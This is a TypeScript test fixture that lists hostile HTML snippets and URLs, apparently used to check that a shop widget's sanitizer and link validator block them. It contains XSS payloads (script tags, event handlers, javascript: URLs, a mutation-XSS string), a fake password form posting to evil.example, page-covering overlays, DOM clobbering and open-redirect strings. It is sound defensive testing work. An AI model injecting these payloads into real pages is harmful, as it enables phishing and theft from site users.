/** Server HTML that must not run, cover the page, ask for passwords or reuse the page's ids. */
export const HOSTILE_HTML: readonly string[] = [
  '<script>window.hostile = 1</script>',
  '<img src=x onerror="window.hostile = 1">',
  '<svg onload="window.hostile = 1"><circle r="9"/></svg>',
  '<a href="javascript:window.hostile=1">click</a>',
  '<form action="https://evil.example"><input name="password" type="password"><button>Sign in</button></form>',
  '<div style="position:fixed;inset:0;background:#fff">covered</div>',
  '<iframe src="https://evil.example"></iframe>',
  '<p id="cb-state" name="cb-state">clobbered</p>',
  '<math><mtext></p><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.hostile=1&gt;">',
  '&lt;img src=x onerror=window.hostile=1&gt;',
  '<b>bold</b><a href="https://evil.example" target="_blank">elsewhere</a>',
  '<h1>Loud</h1><table><tr><td onclick="window.hostile=1">cell</td></tr></table>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<cb-cart-page></cb-cart-page><div data-cb-widget="mini-cart"></div>',
];

/** Addresses that must not be opened, shown or loaded. */
export const HOSTILE_URLS: readonly string[] = [
  'javascript:window.hostile=1',
  'java\nscript:window.hostile=1',
  '//evil.example/path',
  'https://evil.example/',
  '/..//evil.example/',
  '\\\\evil.example',
  'https://user:secret@shop.invalid/',
  'data:text/html,<script>window.hostile=1</script>',
  ' https://evil.example',
  'http://evil.example/',
  '/account/login;jsessionid=0123456789ABCDEF',
  'ftp://evil.example/file',
];
